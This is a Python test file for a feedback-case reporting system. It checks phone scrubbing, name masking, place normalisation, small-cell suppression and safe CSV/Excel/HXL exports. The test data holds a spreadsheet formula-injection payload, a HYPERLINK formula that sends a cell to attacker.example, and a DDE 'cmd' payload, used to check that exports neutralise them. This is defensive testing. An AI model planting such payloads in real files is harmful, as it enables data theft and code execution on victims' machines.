"""What reaches the search index, the journal and the report files: scrubbed numbers, masked names,
places from the gazetteer, spreadsheet cells that never run, and small cells withheld."""
import csv
import io
from datetime import UTC, date, datetime, timedelta
from uuid import uuid4

import pytest
from openpyxl import load_workbook

from chassis.redact import NameMask
from chassis.settings import load_settings
from contracts.common import Channel, ContactDetails, Location
from contracts.envelope import Envelope
from contracts.events import CaseClassified, CaseOpened, DeadlineWarning
from contracts.http import CallFigures, Count, DeadlineFigures, MessageFigures, Report, SatisfactionLine
from services.intake import domain as intake_domain
from services.intake.settings import IntakeSettings
from services.reporting import exports, reports
from services.reporting.domain import apply_event, journal_envelope, scrub

T0 = datetime(2026, 11, 23, 9, tzinfo=UTC)
ATTACK = '=HYPERLINK("http://attacker.example/?"&B3,"Kindia")'


@pytest.mark.security
@pytest.mark.parametrize("written", [
    "622/12/34/56", "622,98,76,54", "622.12.34.56", "+224 622 12 34 56", "62212 34 56", "N° 123456", "n°123456",
    "No. 45218", "numéro 4521 887", "gn1234567", "ab 1234567", "GN-1234567", "Ab1234567",
])
def test_the_scrubber_removes_numbers_however_they_are_written(written):
    scrubbed = scrub(f"mon numéro est {written} merci")
    assert not any(char.isdigit() for char in scrubbed), scrubbed
    assert scrubbed.startswith("mon numéro est [") and scrubbed.endswith("] merci")


def test_dates_and_small_amounts_stay_searchable():
    text = "Depuis le 12/11/2026 on attend les 500 000 GNF et 3 kits"
    assert scrub(text) == text


@pytest.mark.security
def test_staff_names_are_masked_whatever_the_case_and_accents():
    names = NameMask(["Mamadou Saliou Camara", "Aïssatou Bah"])
    masked = scrub("L'agent MAMADOU SALIOU CAMARA et aissatou ont demandé 622 12 34 56 à Camara.", names)
    assert masked == "L'agent [name] et [name] ont demandé [phone] à [name]."


@pytest.mark.security
def test_the_complainant_s_own_name_leaves_intake_masked():
    contact = ContactDetails(name="Nènè Diallo", phone="+224664001122")
    text = "Je suis Nene DIALLO de Mambia. Diallo est aussi le nom de ma mère."
    assert intake_domain.without_own_name(text, contact) == (
        "Je suis [name] de Mambia. [name] est aussi le nom de ma mère.")
    assert intake_domain.without_own_name(text, None) == text


@pytest.fixture(scope="module")
def gazetteer():
    return load_settings(IntakeSettings, "intake", environ={}).gazetteers["GN"]


@pytest.mark.security
def test_a_typed_place_becomes_a_gazetteer_name_or_other(gazetteer):
    typed = Location(adm1="kindja", adm2="Préfecture de Coyah", place="Aissatou Camara 622 12 34 56")
    assert gazetteer.locate(typed) == Location(adm1="Kindia", adm2="Coyah", place="other")
    assert gazetteer.locate(Location(adm1=ATTACK)) == Location(adm1="other")


def test_a_place_below_fills_the_levels_above_and_a_place_elsewhere_is_other(gazetteer):
    assert gazetteer.locate(Location(place="Centre de transit de Matam")) == Location(
        adm1="Conakry", adm2="Matam", place="Centre de transit de Matam")
    assert gazetteer.locate(Location(adm1="N'ZEREKORE", adm2="Coyah")) == Location(adm1="Nzérékoré", adm2="other")


def _wrap(event):
    return Envelope.wrap(event, country="GN", producer="test", correlation_id=uuid4()), event


def test_a_reclassification_brings_its_priority_to_the_document():
    case_id = uuid4()
    opened = _wrap(CaseOpened(
        case_id=case_id, reference="GN-2026-000001", feedback_id=uuid4(), channel=Channel.SMS, narrative="retard",
        received_at=T0, opened_at=T0, sensitive=False, restricted=False, priority="normal",
        deadline_kind="acknowledge", deadline_at=T0 + timedelta(days=1)))
    classified = _wrap(CaseClassified(
        case_id=case_id, reference="GN-2026-000001", case_version=2, status="new", restricted=True, at=T0,
        by="agent-1", category_code=7, taxonomy_version=1, sensitive=True, confirmed=True, priority="high"))
    for order in ([opened, classified], [classified, opened]):
        document = {}
        for envelope, event in order:
            document = apply_event(document, envelope, event)
        assert (document["priority"], document["category_code"], document["restricted"]) == ("high", 7, True)
    warned = _wrap(DeadlineWarning(
        case_id=case_id, reference="GN-2026-000001", case_version=3, status="new", restricted=True, at=T0,
        by="system", kind="refer", due_at=T0 + timedelta(hours=4), priority="emergency"))
    assert apply_event(document, *warned)["priority"] == "emergency"


def test_the_journal_keeps_narratives_without_staff_names():
    event = CaseOpened(
        case_id=uuid4(), reference="GN-2026-000001", feedback_id=uuid4(), channel=Channel.SMS,
        narrative="Moussa Keïta demande 5000", received_at=T0, opened_at=T0, sensitive=False, restricted=False,
        priority="normal", deadline_kind="acknowledge", deadline_at=T0 + timedelta(days=1))
    envelope = Envelope.wrap(event, country="ML", producer="cases", correlation_id=uuid4())
    kept = journal_envelope(envelope, event, NameMask(["Moussa Keïta"]))
    assert kept["payload"]["narrative"] == "[name] demande 5000"


def test_a_key_only_the_previous_period_had_is_listed_at_zero():
    counted = reports.counts([{"key": "sms", "doc_count": 3}], 3, {"sms": 2, "web_form": 4})
    assert [(c.key, c.count, c.previous) for c in counted] == [("sms", 3, 2), ("web_form", 0, 4)]
    silent = reports.counts([], 0, {"sms": 17})
    assert [(c.key, c.count, c.previous) for c in silent] == [("sms", 0, 17)]


def test_small_cells_are_withheld_and_listed_last_by_key():
    counted = [Count(key="Kindia", count=12, previous=7), Count(key="Labé", count=3, previous=0),
               Count(key="Boké", count=1, previous=6), Count(key="Mamou", count=0, previous=0)]
    assert [(c.key, c.count, c.previous, c.suppressed) for c in reports.suppress_small_cells(counted)] == [
        ("Kindia", 12, 7, False), ("Mamou", 0, 0, False), ("Boké", None, 6, True), ("Labé", None, 0, True)]


def _line(key: str, answered: int, satisfied: int) -> SatisfactionLine:
    return SatisfactionLine(key=key, answered=answered, satisfied=satisfied,
                            share_satisfied=reports.share(satisfied, answered))


def test_a_satisfaction_line_of_one_to_four_answers_is_withheld_whole_and_listed_last_by_key():
    # The one person who answered about a sexual exploitation case (category 6) said "not satisfied".
    figures = reports.satisfaction_figures(17, 12, {
        "by_country": [_line("GN", 17, 12)],
        "by_channel": [_line("hotline", 9, 8), _line("web_form", 4, 3), _line("sms", 4, 1)],
        "by_category": [_line("4", 16, 12), _line("6", 1, 0)]})
    assert (figures.answered, figures.satisfied, figures.share_satisfied, figures.suppressed) == (
        17, 12, 0.706, False)  # a total of 5 or more is the programme's, shown whole
    assert [(line.key, line.answered, line.satisfied, line.share_satisfied, line.suppressed)
            for line in figures.by_channel] == [
        ("hotline", 9, 8, 0.889, False), ("sms", None, None, None, True), ("web_form", None, None, None, True)]
    # The total less category 4 would give category 6's one answer back: category 4 is withheld with it.
    assert [(line.key, line.answered, line.satisfied, line.suppressed) for line in figures.by_category] == [
        ("4", None, None, True), ("6", None, None, True)]
    assert figures.by_country[0].answered == 17


def test_a_withheld_line_takes_the_smallest_shown_ones_with_it_until_five_answers_are_hidden_together():
    lines = [_line("hotline", 30, 20), _line("sms", 6, 5), _line("whatsapp", 2, 0), _line("web_form", 5, 5)]
    assert [(line.key, line.suppressed) for line in reports.suppress_small_satisfaction(lines)] == [
        ("hotline", False), ("sms", False), ("web_form", True), ("whatsapp", True)]
    # Two small lines of 5 answers together: nothing more to hide.
    assert [line.key for line in reports.suppress_small_satisfaction(
        [_line("hotline", 30, 20), _line("sms", 3, 1), _line("whatsapp", 2, 0)]) if line.suppressed] == [
        "sms", "whatsapp"]


def test_a_total_of_one_to_four_answers_keeps_its_count_but_not_what_was_said():
    figures = reports.satisfaction_figures(1, 0, {"by_country": [_line("GN", 1, 0)], "by_channel": [],
                                                  "by_category": []})
    assert (figures.answered, figures.satisfied, figures.share_satisfied, figures.suppressed) == (1, None, None, True)
    assert figures.by_country[0].suppressed
    nobody = reports.satisfaction_figures(0, 0, {"by_country": [], "by_channel": [], "by_category": []})
    assert (nobody.answered, nobody.satisfied, nobody.share_satisfied, nobody.suppressed) == (0, 0, None, False)


def _report(**messages) -> Report:
    deadline = DeadlineFigures(kind="acknowledge", settled=0, within_deadline=0, overdue_unsettled=0,
                               share_within_deadline=None, median_hours=None, p90_hours=None)
    figures = dict(total=9, previous_total=0, change_percent=None, by_country=[], by_channel=[], by_category=[],
                   by_sex=[], by_age_group=[], by_disability=[], by_location=[])
    return Report(
        scope="GN", countries=["GN"], period="week", start=date(2026, 11, 16), end=date(2026, 11, 22),
        timezone="Africa/Conakry", generated_at=T0, messages=MessageFigures(**{**figures, **messages}),
        calls=CallFigures(received=0, answered=0, abandoned=0, average_wait_seconds=None, previous_received=0),
        acknowledge=deadline, resolve=deadline.model_copy(update={"kind": "resolve"}), backlog=[], referrals=[],
        replies_sent=0, responses_by_channel=[Count(key="-1+1", count=2)], topics=[], trend=[], daily=[])


DANGEROUS = [ATTACK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.security
def test_no_text_cell_of_an_excel_report_is_a_formula():
    report = _report(by_location=[Count(key=key, count=9, previous=0) for key in DANGEROUS])
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(report, {})))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    risky = [cell for cell in cells
             if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "+", "-", "@"))]
    assert len(risky) == len(DANGEROUS) + 1  # the places, and a response channel
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)


@pytest.mark.security
def test_no_field_of_a_csv_or_hxl_report_starts_like_a_formula():
    report = _report(by_location=[Count(key=key, count=9, previous=0) for key in DANGEROUS])
    cases = [{"country": "GN", "adm1": key, "channel": "web_form", "category_code": 4, "sub_category": "@x",
              "status": "new"} for key in DANGEROUS for _ in range(5)]
    for text in (exports.to_csv(report, {}), exports.to_hxl_csv(report, cases, {})):
        fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
        assert not [field for field in fields if field.startswith(exports.FORMULA_STARTS)]
        assert "'" + ATTACK in fields


def test_files_show_a_withheld_figure_as_less_than_five():
    report = _report(by_location=reports.suppress_small_cells([Count(key="Kindia", count=2, previous=9)]))
    rows = list(csv.reader(io.StringIO(exports.to_csv(report, {}))))
    assert ["By location", "Kindia", "Messages", "<5"] == rows[[r[4:5] for r in rows].index(["By location"])][4:]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(report, {})))["By location"]
    assert [cell.value for cell in sheet[2]] == ["Kindia", "<5", 9]
    hxl = list(csv.reader(io.StringIO(exports.to_hxl_csv(report, [
        {"country": "GN", "adm1": "", "channel": "", "category_code": 6, "status": "new", "restricted": True}], {}))))
    assert hxl[2][-1] == "<5"


def test_files_show_a_withheld_satisfaction_line_and_a_small_totals_share_as_less_than_five():
    report = _report().model_copy(update={"satisfaction": reports.satisfaction_figures(3, 0, {
        "by_country": [_line("GN", 3, 0)], "by_channel": [_line("hotline", 3, 0)], "by_category": []})})
    rows = list(csv.reader(io.StringIO(exports.to_csv(report, {}))))
    assert {tuple(row[5:]) for row in rows if row[4] == "Satisfaction by channel"} == {
        ("hotline", "Answers", "<5"), ("hotline", "Satisfied", "<5"), ("hotline", "Share satisfied", "<5")}
    assert ["Summary", "Satisfaction answers", "This period", "3"] in [row[4:] for row in rows]
    assert ["Summary", "Satisfied with the answer (share)", "This period", "<5"] in [row[4:] for row in rows]
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(report, {})))
    assert [cell.value for cell in workbook["Satisfaction by country"][2]] == ["GN", "<5", "<5", "<5"]


@pytest.mark.security
def test_reporting_keeps_a_typed_place_that_cannot_be_a_place_name_as_other():
    from contracts.events import FeedbackReceived
    event = FeedbackReceived(feedback_id=uuid4(), reference="GN-2026-000001", channel=Channel.WEB_FORM,
                             narrative="x", received_at=T0,
                             location=Location(adm1=ATTACK, adm2="Kindia", place="Sow 664 00 11 22"))
    envelope, _ = _wrap(event)
    assert journal_envelope(envelope, event)["payload"]["location"] == {
        "adm1": "other", "adm2": "Kindia", "adm3": None, "place": "other"}
    assert (apply_event({}, envelope, event)["adm1"], apply_event({}, envelope, event)["adm2"]) == ("other", "Kindia")
